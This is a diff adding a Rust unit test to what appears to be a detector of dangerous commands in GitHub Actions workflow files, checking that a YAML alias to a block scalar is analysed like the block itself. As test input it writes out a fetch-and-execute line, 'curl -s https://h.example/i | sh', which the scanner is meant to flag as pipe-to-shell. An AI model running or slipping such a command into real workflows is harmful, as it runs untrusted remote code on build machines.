@@ -470,3 +470,13 @@ fn manifests_of_real_plugins_have_no_danger_from_keys() {
     }
     assert!(seen > 300 && wrong.is_empty(), "{seen} files: {wrong:#?}");
 }
+
+#[test]
+fn an_alias_of_a_block_scalar_is_what_the_block_says() {
+    let text = "x: &c >\n  @ https://h.example/i | sh\njobs:\n a:\n  steps:\n  - run: *c\n";
+    for (program, danger) in [("curl -s", true), ("echo", false)] {
+        let text = text.replace('@', program);
+        let found = check(Profile::General, ".github/workflows/a.yml", &text);
+        assert_eq!(found.iter().any(|row| row.contains("sh/pipe-to-shell")), danger, "{found:?}");
+    }
+}
